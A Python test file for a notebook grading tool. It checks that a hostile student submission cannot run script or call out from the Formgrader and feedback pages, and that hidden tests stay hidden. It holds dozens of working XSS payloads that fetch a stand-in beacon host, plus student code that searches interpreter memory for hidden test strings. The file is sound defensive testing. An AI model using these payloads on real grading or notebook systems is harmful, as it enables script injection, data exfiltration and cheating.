"""What a student hands in does not run in the browser of whoever looks at it.

One submission holds everything that could run in a page, as answers and as outputs. It is graded,
and looked at in a real browser: in the Formgrader, with a lecturer's login, and on its feedback
page. That each of them would run otherwise is tried on pages which nothing has made harmless.

Needs Chromium or Chrome. Without one these tests are skipped, and the run's last lines say so;
where CI is set they fail instead.
"""

import json
import os
import re
import shutil
import subprocess
import sys
import time
import urllib.request
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import nbgrader.server_extensions.formgrader.handlers as formgrader
import pytest
from helpers import ROOT, assignment_cell, free_ports, nbgrader
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from playwright.sync_api import Browser, Error

from safe_grading import cleaning, sandbox

pytestmark = pytest.mark.slow  # it grades, and starts a server and a browser
TOKEN, NAME, SECRET = "a-token-for-tests", "00-pages", "a-hidden-case"
BEACON, CONTROL = "http://beacon.test", "http://page.test"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+M8AAAEBAQAY3Y2wAAAAAElFTkSuQmCC"
)


# --- What could run ------------------------------------------------------------------------------


@dataclass
class Form:
    """A cell that tries to run something, or to ask for something elsewhere."""

    name: str
    answer: str = ""  # in Markdown
    output: dict = field(default_factory=dict)
    metadata: dict = field(default_factory=dict)  # of the output
    attachments: dict = field(default_factory=dict)
    runs: bool = True  # on a page that nothing has made harmless


FORMS: dict[str, Form] = {}


def here(text: str, name: str) -> str:
    """Write in what a form does: it leaves a mark, and asks a server for something."""
    code = f"window.hacked=1;fetch('{BEACON}/{name}')"
    return text.replace("CODE", code).replace("URL", f"{BEACON}/{name}")


def in_html(name: str, text: str, runs: bool = True) -> None:
    """Add HTML both as an answer and as an output."""
    for kind in ("answer", "output"):
        full = f"{name}-{kind}"
        given = here(text, full)
        form = (
            Form(full, answer=given) if kind == "answer" else Form(full, "", {"text/html": given})
        )
        form.runs = runs
        FORMS[full] = form


def answer(name: str, text: str, runs: bool = True, **attachments: dict) -> None:
    FORMS[name] = Form(name, here(text, name), attachments=attachments, runs=runs)


def output(name: str, kind: str, text: object, runs: bool = True, **metadata: object) -> None:
    text = here(text, name) if isinstance(text, str) else text
    marked = json.loads(here(json.dumps(metadata), name))
    FORMS[name] = Form(name, "", {kind: text, "text/plain": "shown"}, {kind: marked}, runs=runs)


in_html("script", "<script>CODE</script>")
in_html("event-handler", '<img src="no" onerror="CODE">')
in_html("event-of-details", '<details open ontoggle="CODE"><summary>x</summary>y</details>')
in_html("event-of-focus", '<input autofocus onfocus="CODE">')
in_html("event-under-the-mouse", '<p onmouseover="CODE">over</p>')
in_html("event-without-spaces", '<img/src="no"/onerror="CODE">')
FORMS["event-without-spaces-answer"].runs = False  # Markdown takes it for text
in_html("svg-onload", '<svg onload="CODE"></svg>')
in_html("svg-script", "<svg><script>CODE</script></svg>")
in_html("svg-animate", '<svg><animate onbegin="CODE" attributeName="x" dur="1s"></animate></svg>')
in_html("svg-link", '<svg><a xlink:href="javascript:CODE"><text y="20">x</text></a></svg>')
in_html("svg-image", '<svg><image href="URL"></image></svg>')
in_html("svg-use", '<svg><use href="URL#x"></use></svg>', runs=False)  # Chromium wants one origin
in_html(
    "svg-foreign-object",
    '<svg><foreignObject><img src="no" onerror="CODE"></foreignObject></svg>',
)
in_html("mathml", '<math><mtext><img src="no" onerror="CODE"></mtext></math>')
in_html(
    "mathml-mutation",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=no onerror=&quot;CODE&quot;&gt;">',
    runs=False,
)
in_html(
    "noscript-mutation",
    '<noscript><p title="</noscript><img src=no onerror=&quot;CODE&quot;>"></p></noscript>',
    runs=False,
)
in_html("iframe-srcdoc", '<iframe srcdoc="<script>CODE</script>"></iframe>')
in_html("iframe-javascript", '<iframe src="javascript:CODE"></iframe>')
in_html("iframe-data", '<iframe src="data:text/html,<script>CODE</script>"></iframe>')
in_html("iframe-elsewhere", '<iframe src="URL"></iframe>')
in_html("meta-refresh", '<meta http-equiv="refresh" content="0;url=URL">')
in_html("form", '<form action="URL"><button>go</button></form>')
in_html("form-action", '<form><button formaction="javascript:CODE">go</button></form>')
in_html("base", '<base href="URL/"><img src="picture.png">')
in_html("object", '<object data="URL"></object>')
in_html("embed", '<embed src="URL">')
in_html("link-style", '<link rel="stylesheet" href="URL">')
in_html("style-import", '<style>@import "URL";</style>')
in_html("style-of-an-element", '<p style="background: url(URL)">x</p>')
in_html("style-cursor", '<p style="color: red; list-style: url(URL)">x</p>', runs=False)
in_html("shadow", '<div><template shadowrootmode="open"><img src="URL"></template></div>')
in_html("link", '<a href="javascript:CODE">x</a>')
in_html("link-entity", '<a href="java&#115;cript:CODE">x</a>')
in_html("link-tab", '<a href="java&Tab;script:CODE">x</a>')
in_html("link-elsewhere", '<a href="URL">x</a>')
in_html("picture-elsewhere", '<img src="URL" alt="x">')
in_html("picture-srcset", '<img srcset="URL 1x" alt="x">')
in_html("video", '<video poster="URL" src="URL"></video>')
answer("link-files", '<a href="files/javascript:CODE">x</a>')  # nbconvert takes "files/" away
answer("markdown-link", "[x](javascript:CODE)")
answer("markdown-link-reference", "[x][y]\n\n[y]: javascript:CODE")
answer("markdown-autolink", "<javascript:CODE>")
answer("markdown-picture", "![x](URL)")
answer("markdown-mermaid", '```mermaid\n<img src="no" onerror="CODE">\n```')
answer("markdown-heading", '# Title <img src="no" onerror="CODE">')
answer("markdown-table", '| a |\n|---|\n| <img src="no" onerror="CODE"> |')
answer("markdown-after-math", '$a$ <img src="no" onerror="CODE"> $b$')
answer("latex-href", r"$\href{javascript:CODE}{x}$", runs=False)  # MathJax is not here
answer("latex-entities", r"&#92;(&#92;hr&#101;f{javascript:CODE}{x}&#92;)", runs=False)
answer("latex-style", r"$\style{background: url(URL)}{x} \require{action}$", runs=False)
answer(
    "attachment",
    '<iframe src="attachment:a.html"></iframe> ![x](attachment:a.html)',
    runs=False,
    **{"a.html": {"text/html": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}},
)
output("javascript", "application/javascript", "CODE", runs=False)  # it needs jQuery to be there
output("markdown-output", "text/markdown", '# a\n<img src="no" onerror="CODE">')
output("latex-output", "text/latex", r"$\href{javascript:CODE}{x}$", runs=False)
output("picture-width", "image/png", "AAAA", width="1 onerror=CODE")
output("picture-data", "image/png", '"><img src=no onerror=CODE>', runs=False)
output("html-isolated", "text/html", '<img src="URL">', isolated=True)
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="CODE"><script>CODE</script></svg>'
output("svg-output", "image/svg+xml", SVG, runs=False)
WIDGET = {"model_id": "a", "version_major": 2, "version_minor": 0}
output("widget", "application/vnd.jupyter.widget-view+json", WIDGET, runs=False)
output("vega", "application/vnd.vegalite.v5+json", {"$schema": "x"}, runs=False)
output("plotly", "application/vnd.plotly.v1+json", {"data": []}, runs=False)
output("bokeh", "application/vnd.bokehjs_exec.v0+json", "CODE", runs=False)
output(
    "colours",
    "text/plain",
    '\x1b]8;;javascript:CODE\x07x\x1b]8;;\x07\x1b[31m<b onclick="CODE">',
    runs=False,
)
NAMES = list(FORMS)


def as_cell(form: Form, number: int, ran: bool = False) -> NotebookNode:
    """A cell for a form: an answer, or code that shows it (and has already shown it, if ran)."""
    if form.answer:
        return new_markdown_cell(form.answer, id=f"form-{number}", attachments=form.attachments)
    code = f"display({form.output!r}, raw=True, metadata={form.metadata!r})"
    cell = new_code_cell(code, id=f"form-{number}")
    if ran:
        cell.outputs = [new_output("display_data", form.output, metadata=form.metadata)]
    return cell


# --- A class of two ------------------------------------------------------------------------------

HONEST = """\
Because **each** layer adds 2 < 3 pixels: $r_n = r_{n-1} + 2$, see [the paper](https://example.org).

| depth | field |
|---|---|
| 1 | 3 |

<details><summary>More</summary>H<sub>2</sub>O</details>
"""
TABLE = '<style scoped>.dataframe tbody tr th {}</style><table border="1" class="dataframe"><tr>'
TABLE += "<td>0.5</td></tr></table>"
LOOKS = """\
import gc, linecache, sys
def double(number):
    print("number", number)
    shell = get_ipython()
    places = [In, _ih, shell.history_manager.input_hist_raw, linecache.cache, shell.parent_header]
    places.append(shell.kernel.get_parent("shell"))
    frame = sys._getframe()
    while frame:
        places += [dict(frame.f_locals), linecache.getlines(frame.f_code.co_filename)]
        frame = frame.f_back
    if number == 3:
        values = [list(one) for one in gc.get_objects() if type(one) is list]
        values += [list(one.values()) for one in gc.get_objects() if type(one) is dict]
        places += [[x for x in one if type(x) is str] for one in values]
    for place in places:
        if "a-hid" + "den-case" in repr(place):
            print("FOUND in", repr(place)[:200].replace("a-hid" + "den-case", "it"))
    print("looked at", len(places) > 9)
    return 2 * number
"""


def source() -> NotebookNode:
    """An assignment of 3 points: 2 by a test, 1 by a person."""

    solved = "### BEGIN SOLUTION\n    return 2 * number\n    ### END SOLUTION"
    hidden = f'### BEGIN HIDDEN TESTS\nassert double(3) == 6, "{SECRET}"\n### END HIDDEN TESTS'
    cells = [
        assignment_cell("double", f"def double(number):\n    {solved}", solution=True),
        assignment_cell("double-test", f"assert double(4) == 8\nprint('✓ doubled')\n{hidden}", 2),
        assignment_cell("why", "Because it is so.", 1, solution=True, markdown=True),
    ]
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return new_notebook(cells=cells, metadata={"kernelspec": kernel})


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    """A course in which both submissions are graded and have their feedback."""
    course = tmp_path_factory.mktemp("course")
    shutil.copytree(ROOT / "tools", course / "tools", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "nbgrader_config.py", course)
    (course / f"solutions/{NAME}").mkdir(parents=True)
    nbformat.write(source(), course / f"solutions/{NAME}/{NAME}.ipynb")
    nbgrader(course, "generate_assignment", NAME, "--force")
    for student in ("ada", "eve"):
        notebook = nbformat.read(course / f"exercises/{NAME}/{NAME}.ipynb", as_version=4)
        folder = course / f"grading/submitted/{student}/{NAME}"
        folder.mkdir(parents=True)
        if student == "ada":
            notebook.cells[0].source = "def double(number):\n    return 2 * number"
            notebook.cells[2].source = HONEST
            code = f"display({{'image/png': {PIXEL!r}}}, raw=True)"
            notebook.cells.append(new_code_cell(code))
            notebook.cells.append(
                new_code_cell(
                    f"print('a printed line')\ndisplay({{'text/html': {TABLE!r}}}, raw=True)"
                )
            )
        else:
            notebook.cells[0].source = LOOKS
            notebook.cells[2].source = "My <script>alert(1)</script> answer."
            notebook.metadata["widgets"] = {
                "application/vnd.jupyter.widget-state+json": {"state": {}}
            }
            notebook.cells += [as_cell(form, n) for n, form in enumerate(FORMS.values())]
            (folder / "page.html").write_text("<script>alert(1)</script>")
        nbformat.write(notebook, folder / f"{NAME}.ipynb")
    extra = ["--no-sandbox"] if sandbox.unavailable() else []
    command = [sys.executable, "tools/grade.py", NAME, "--jobs=2", *extra]
    done = subprocess.run(command, cwd=course, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    (course / "said").write_text(done.stdout)
    nbgrader(course, "generate_feedback", NAME)
    return course


@pytest.fixture(scope="module")
def server(course):
    """A Jupyter server with the Formgrader, as the lecturer starts it; its address."""
    [port] = free_ports(1)
    command = [sys.executable, "-m", "jupyter", "server", "--no-browser", "--allow-root"]
    command += ["--ip=127.0.0.1", f"--port={port}", f"--IdentityProvider.token={TOKEN}"]
    command += ["--ServerApp.jpserver_extensions=nbgrader.server_extensions.formgrader=True"]
    log = (course / "server.log").open("w")
    environment = os.environ | {"JUPYTER_CONFIG_DIR": str(course / ".config")}
    process = subprocess.Popen(command, cwd=course, stdout=log, stderr=log, env=environment)
    deadline = time.monotonic() + 300
    while True:
        try:
            ask(f"http://127.0.0.1:{port}", "api/status")
            break
        except OSError:
            alive = process.poll() is None and time.monotonic() < deadline
            assert alive, (course / "server.log").read_text()
            time.sleep(0.2)
    yield f"http://127.0.0.1:{port}"
    process.terminate()
    process.wait(timeout=60)


def ask(address: str, what: str):
    with urllib.request.urlopen(f"{address}/{what}?token={TOKEN}", timeout=60) as answer:
        return json.load(answer)


TOUCH = """() => {
    for (const one of document.querySelectorAll("#notebook *")) {
        const what = {bubbles: true, cancelable: true};
        one.dispatchEvent(new MouseEvent("mouseover", what));
        one.dispatchEvent(new FocusEvent("focus"));
        const kinds = ["A", "a", "BUTTON"];
        if (kinds.includes(one.tagName) && !one.closest(".panel-heading")) {
            one.dispatchEvent(new MouseEvent("click", what));
        }
    }
}"""


class Look:
    """What happens when someone looks at a page, and moves and clicks on all that is there."""

    def __init__(self, browser: Browser, pages: dict[str, str] | None = None):
        self.context = browser.new_context()
        self.pages, self.asked, self.said = pages or {}, set[str](), list[str]()
        self.context.route(re.compile(""), self._answer)
        self.page = self.context.new_page()
        self.page.on("dialog", self._dialog)

    def _dialog(self, dialog) -> None:
        self.said.append(dialog.message)
        dialog.dismiss()

    def _answer(self, route) -> None:
        url = route.request.url
        if url.startswith(BEACON):
            self.asked.add(re.split("[/?]", url.removeprefix(f"{BEACON}/"))[0])
            route.abort()
        elif url in self.pages:
            route.fulfill(body=self.pages[url], content_type="text/html; charset=utf-8")
        elif url.startswith(("http://127.0.0.1", "data:")):
            route.continue_()
        else:
            route.abort()

    def at(self, url: str, wait: int = 400) -> None:
        """Go to a page, and move over and click on everything, also in its frames."""
        self.page.goto(url, wait_until="load")
        self.page.wait_for_timeout(wait)
        for frame in self.page.frames:
            with suppress(Error):  # a form has taken it elsewhere
                frame.evaluate(TOUCH)
        self.page.wait_for_timeout(400)

    def hacked(self) -> bool:
        return self.page.evaluate("window.hacked !== undefined")


@pytest.fixture(scope="module", params=["formgrader", "feedback"])
def look(request, browser, course):
    """Looking at what the hostile student handed in."""
    look = Look(browser)
    if request.param == "formgrader":
        address = request.getfixturevalue("server")
        look.page.goto(f"{address}/api/status?token={TOKEN}")
        submissions = ask(address, f"formgrader/api/submitted_notebooks/{NAME}/{NAME}")
        [one] = [one for one in submissions if one["student"] == "eve"]
        look.at(f"{address}/formgrader/submissions/{one['id']}/")
    else:
        page = course / f"grading/feedback/eve/{NAME}/{NAME}.html"
        look.pages[f"{CONTROL}/"] = page.read_text()
        look.at(f"{CONTROL}/")
    yield look
    look.context.close()


def test_nothing_runs_and_nothing_is_asked_for(look):
    assert not look.hacked()
    assert not look.said
    assert not look.asked
    assert look.page.locator("#notebook").count()  # and it is still the page
    text = look.page.locator("#notebook").first.inner_text()
    assert "My <script>alert(1)</script> answer." in text
    assert look.page.locator("#notebook-container a[href]:not([href^='#'])").count() == 0
    assert look.page.locator("#notebook iframe, #notebook object, #notebook svg").count() == 0


def exposed(forms: list[Form]) -> dict[str, str]:
    """Pages with one form each, made as nbgrader makes feedback where nothing is made harmless."""
    templates = formgrader.template_path
    css = Path(formgrader.static_path, "node_modules/bootstrap/dist/css")
    exporter = HTMLExporter(
        template_name="feedback",
        extra_template_basedirs=[templates],
        extra_template_paths=[str(css)],
    )
    grades = {"notebook": "n", "score": 0, "max_score": 0, "late_penalty": 0}
    pages = {}
    for form in forms:
        notebook = new_notebook(cells=[as_cell(form, 0, ran=True)])
        page, _ = exporter.from_notebook_node(notebook, {"nbgrader": grades})
        pages[f"{CONTROL}/{form.name}"] = re.sub(
            r"<style.*?</style>", "", page, count=1, flags=re.S
        )
    return pages


def test_all_of_it_runs_on_pages_that_nothing_has_made_harmless(browser):
    """So that the test above can fail. Each form has a page of its own, in a frame of one."""
    forms = [form for form in FORMS.values() if form.runs]
    look = Look(browser, exposed(forms))
    for start in range(0, len(forms), 20):
        frames = (f'<iframe src="{CONTROL}/{form.name}"></iframe>' for form in forms[start:][:20])
        look.pages[f"{CONTROL}/"] = "".join(frames)
        look.at(f"{CONTROL}/", wait=0)
    look.context.close()
    assert {form.name for form in forms} == look.asked


# --- What stays ----------------------------------------------------------------------------------


def graded(course: Path, student: str) -> NotebookNode:
    return nbformat.read(course / f"grading/autograded/{student}/{NAME}/{NAME}.ipynb", as_version=4)


def feedback(course: Path, student: str) -> str:
    return (course / f"grading/feedback/{student}/{NAME}/{NAME}.html").read_text()


def test_the_lecturer_is_told_once_for_each_cell_and_of_nobody_honest(course):
    said = (course / "said").read_text()
    ada, eve = re.search(r"^ada: 2 of 3.*?\n(.*)^eve: 2 of 3.*?\n(.*)", said, re.M | re.S).groups()
    assert ada == ""
    assert "    cell why: a script was taken out\n" in eve
    log = (course / f"grading/logs/{NAME}/eve.log").read_text()
    assert "taken out of cell why: My <script>alert(1)</script> answer." in log
    submitted = course / f"grading/submitted/eve/{NAME}"
    assert (submitted / "page.html").exists()
    assert not (course / f"grading/autograded/eve/{NAME}/page.html").exists()


def test_the_copy_of_a_hostile_submission_holds_nothing_that_could_run(course):
    notebook = graded(course, "eve")
    assert set(notebook.metadata) <= {"kernelspec", "language_info"}
    for cell in notebook.cells:
        if cell.cell_type == "markdown":
            assert not cleaning.findings(cleaning.render(cell.source, {}))
        for output in cell.get("outputs", []):
            kinds = set(output.get("data", {}))
            assert kinds <= {
                "text/plain",
                "text/html",
                "text/markdown",
                "image/png",
                "image/svg+xml",
            }
            for kind in kinds - {"text/plain", "text/markdown", "image/png"}:
                assert not re.search(r"onerror|script|beacon\.test/.*[>\"]", output.data[kind])


def test_an_honest_submission_looks_as_it_did(course):
    notebook, page = graded(course, "ada"), feedback(course, "ada")
    assert notebook.cells[2].source == HONEST
    for part in (
        "Because <strong>each</strong> layer adds 2 &lt; 3 pixels: $r_n = r_{n-1} + 2$",
        "the paper (https://example.org)",
        "<td>3</td>",
        "<details><summary>More</summary>H<sub>2</sub>O</details>",
        f'src="data:image/png;base64,{PIXEL}',
        "a printed line",
        '<table border="1" class="dataframe">',
        "✓ doubled",
    ):
        assert part in page, part


def test_hidden_tests_are_not_found_by_the_answer_that_they_call(course):
    notebook, page = graded(course, "eve"), feedback(course, "eve")
    [test] = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")][:1]
    printed = "".join(output.get("text", "") for output in test.outputs)
    assert "number 3\nlooked at True\n" in printed
    assert "number 4" in printed and SECRET not in printed and "FOUND" not in printed
    assert SECRET not in page and "number 3" not in page


def test_the_formgrader_works_under_its_policy(browser, server):
    """Its buttons give points, and nothing of its own is refused."""
    look, refused = Look(browser), []
    look.page.on("console", lambda message: refused.append(message.text))
    look.page.goto(f"{server}/api/status?token={TOKEN}")
    submissions = ask(server, f"formgrader/api/submitted_notebooks/{NAME}/{NAME}")
    [one] = [one for one in submissions if one["student"] == "ada"]
    look.page.goto(f"{server}/formgrader/submissions/{one['id']}/")
    look.page.locator(".glyphicon-eye-open").click()
    look.page.locator("a.name-shown").wait_for(state="visible")
    look.page.locator(".full-credit").last.click()
    look.page.locator(".score-saved").last.wait_for(state="visible")
    text = "\n".join(refused)
    assert not re.search("Content.Security.Policy", text), text
    submissions = ask(server, f"formgrader/api/submitted_notebooks/{NAME}/{NAME}")
    [one] = [one for one in submissions if one["student"] == "ada"]
    assert one["score"] == 3
    look.context.close()
